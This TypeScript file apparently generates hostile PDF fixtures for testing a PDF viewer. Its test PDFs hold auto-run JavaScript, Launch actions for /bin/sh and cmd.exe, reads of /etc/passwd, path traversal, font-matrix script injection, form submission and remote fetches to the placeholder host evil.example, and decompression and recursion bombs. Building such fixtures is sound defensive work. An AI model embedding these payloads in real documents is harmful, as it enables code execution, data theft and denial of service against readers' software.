// PDFs that attack, made for tests: scripts and actions that must not run, and structures that eat time or memory.
// Not part of the program.
import { deflateSync } from 'node:zlib';

type Stream = { dict: string; data: Buffer };
type Body = string | Stream;

/** A PDF of these objects, numbered from 1; the first is the catalogue. */
export function pdfOf(objects: readonly Body[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n', 'latin1')];
  const offsets: number[] = [];
  let length = parts[0]!.length;
  const add = (part: Buffer): void => {
    parts.push(part);
    length += part.length;
  };
  objects.forEach((body, index) => {
    offsets.push(length);
    if (typeof body === 'string') add(Buffer.from(`${index + 1} 0 obj\n${body}\nendobj\n`, 'latin1'));
    else {
      add(Buffer.from(`${index + 1} 0 obj\n<< /Length ${body.data.length} ${body.dict} >>\nstream\n`, 'latin1'));
      add(body.data);
      add(Buffer.from('\nendstream\nendobj\n', 'latin1'));
    }
  });
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const trailer = `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`;
  parts.push(Buffer.from(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}${trailer}`, 'latin1'));
  return Buffer.concat(parts);
}

const text = (words: string): Stream => ({
  dict: '',
  data: Buffer.from(`BT /F1 18 Tf 72 700 Td (${words}) Tj ET`, 'latin1'),
});
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

type Page = {
  /** More of the catalogue. */
  catalog?: string;
  /** More of the page. */
  page?: string;
  box?: string;
  content?: Body;
  resources?: string;
  /** Objects from number 6 on. */
  more?: Body[];
};

/** One page of text (catalogue 1, tree 2, page 3, content 4, font 5), with something nasty about it. */
function onePage({ catalog = '', page = '', box = '0 0 612 792', content, resources = '', more = [] }: Page): Buffer {
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> ${resources} >> ${page} >>`,
    content ?? text('Harmless to look at'),
    FONT,
    ...more,
  ]);
}

const js = (code: string): string => `<< /S /JavaScript /JS (${code}) >>`;
const MARK = 'this.hacked = 1; app.alert\\("hacked"\\); window.hacked = 1; globalThis.hacked = 1;';
const link = (action: string, index: number): string =>
  `<< /Type /Annot /Subtype /Link /Rect [72 ${690 - index * 30} 400 ${715 - index * 30}] /A ${action} >>`;

/** Ones that want something run, opened or fetched. `hacked` would be set, `evil.example` asked. */
export function acting(): Record<string, Buffer> {
  const xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
<subform><event activity="initialize"><script contentType="application/x-javascript">${MARK.replaceAll('\\', '')}</script></event>
<draw><value><exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml"><img src="https://evil.example/xfa.png"/></body></exData></value></draw>
</subform></template></xdp:xdp>`;
  const actions = [
    '<< /S /URI /URI (javascript:window.hacked=1) >>',
    '<< /S /URI /URI (file:///etc/passwd) >>',
    '<< /S /URI /URI (\\\\\\\\evil.example\\\\share\\\\x.pdf) >>',
    '<< /S /URI /URI (https://evil.example/visit) >>',
    '<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>',
    '<< /S /GoToR /F (../../../../etc/passwd) /D [0 /Fit] >>',
    '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/submit) >> >>',
    '<< /S /ImportData /F (/etc/passwd) >>',
    js(MARK),
  ];
  return {
    'open-action-javascript': onePage({ catalog: `/OpenAction ${js(MARK)} /AA << /WC ${js(MARK)} /DP ${js(MARK)} >>` }),
    'page-and-name-javascript': onePage({
      catalog: `/Names << /JavaScript << /Names [(a) ${js(MARK)}] >> >>`,
      page: `/AA << /O ${js(MARK)} /C ${js(MARK)} >>`,
    }),
    'open-action-uri': onePage({ catalog: '/OpenAction << /S /URI /URI (https://evil.example/opened) >>' }),
    'link-actions': onePage({ page: `/Annots [${actions.map(link).join(' ')}]` }),
    xfa: onePage({
      catalog: '/NeedsRendering true /AcroForm << /Fields [] /XFA 6 0 R >>',
      more: [{ dict: '', data: Buffer.from(xfa) }],
    }),
    'form-field-javascript': onePage({
      catalog: '/AcroForm << /Fields [6 0 R] >>',
      page: '/Annots [6 0 R]',
      more: [
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /V (v) /Rect [72 600 300 620] /P 3 0 R /AA << /F ${js(MARK)} /K ${js(MARK)} /C ${js(MARK)} >> >>`,
      ],
    }),
    'font-matrix-injection': onePage({
      content: text('Glyphs of an injected matrix'),
      resources: '/Font << /F1 6 0 R >>',
      more: [
        '<< /Type /Font /Subtype /Type1 /BaseFont /Evil /FirstChar 65 /LastChar 66 /Widths [500 500] /FontDescriptor 7 0 R /FontMatrix [1 2 3 4 5 (1\\); window.hacked = 1; fetch\\("https://evil.example/font"\\);//)] >>',
        '<< /Type /FontDescriptor /FontName /Evil /Flags 4 /FontBBox [0 0 500 500] /ItalicAngle 0 /Ascent 500 /Descent 0 /CapHeight 500 /StemV 80 >>',
      ],
    }),
    'embedded-file': onePage({
      catalog:
        '/Names << /EmbeddedFiles << /Names [(run.exe) 6 0 R] >> >> /OpenAction << /S /GoToE /T << /R /C /N (run.exe) >> /D [0 /Fit] >>',
      more: [
        '<< /Type /Filespec /F (run.exe) /EF << /F 7 0 R >> >>',
        { dict: '/Type /EmbeddedFile', data: Buffer.from('MZ') },
      ],
    }),
    'remote-content': onePage({
      resources: '/XObject << /X 6 0 R >>',
      content: { dict: '', data: Buffer.from('/X Do') },
      more: [
        {
          dict: '/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (https://evil.example/image) >>',
          data: Buffer.from([0]),
        },
      ],
    }),
  };
}

/** Bytes that grow to `bytes` spaces when inflated as often as `layers` says. */
function bomb(bytes: number, layers: number): Buffer {
  let data = deflateSync(Buffer.alloc(bytes, 0x20), { level: 9 });
  for (let layer = 1; layer < layers; layer += 1) data = deflateSync(data, { level: 9 });
  return data;
}

/** Ones that eat time or memory, or are not what they say. */
export function eating(): Record<string, Buffer> {
  const filters = (count: number): string =>
    `/Filter [${Array.from({ length: count }, () => '/FlateDecode').join(' ')}]`;
  const laughs: Body[] = Array.from({ length: 12 }, (_, level) => ({
    dict: `/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /XObject << /N ${level === 11 ? 6 : level + 7} 0 R >> >>`,
    data: Buffer.from(level === 11 ? '0 0 1 1 re f' : '/N Do '.repeat(10)),
  }));
  return {
    'flate-bomb': onePage({ content: { dict: filters(3), data: bomb(600 * 1024 * 1024, 3) } }),
    'billion-laughs': onePage({
      resources: '/XObject << /N 6 0 R >>',
      content: { dict: '', data: Buffer.from('/N Do '.repeat(10)) },
      more: laughs,
    }),
    'self-form': onePage({
      resources: '/XObject << /N 6 0 R >>',
      content: { dict: '', data: Buffer.from('/N Do') },
      more: [
        {
          dict: '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /N 6 0 R >> >>',
          data: Buffer.from('/N Do '.repeat(50)),
        },
      ],
    }),
    'giant-box': onePage({ box: '0 0 1000000000 1000000000' }),
    'inside-out-box': onePage({ box: '900 900 -900 -900', page: '/Rotate 13 /UserUnit 75' }),
    'empty-box': onePage({ box: '0 0 0 0' }),
    'giant-image': onePage({
      resources: '/XObject << /X 6 0 R >>',
      content: { dict: '', data: Buffer.from('600 0 0 700 0 0 cm /X Do') },
      more: [
        {
          dict: '/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode',
          data: deflateSync(Buffer.alloc(1000)),
        },
      ],
    }),
    'cyclic-tree': pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>',
    ]),
    'lying-count': pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] >>',
    ]),
    'no-pages': pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
    'deep-arrays': onePage({ content: { dict: '', data: Buffer.from('['.repeat(200_000)) } }),
    'deep-objects': onePage({ catalog: `/Deep ${'['.repeat(50_000)}${']'.repeat(50_000)}` }),
    'endless-cmap': onePage({
      resources: '/Font << /F1 6 0 R >>',
      more: [
        '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 7 0 R >>',
        {
          dict: '',
          data: Buffer.from(
            `begincmap\n1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange\n${'1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange\n'.repeat(50)}endcmap`,
          ),
        },
      ],
    }),
  };
}
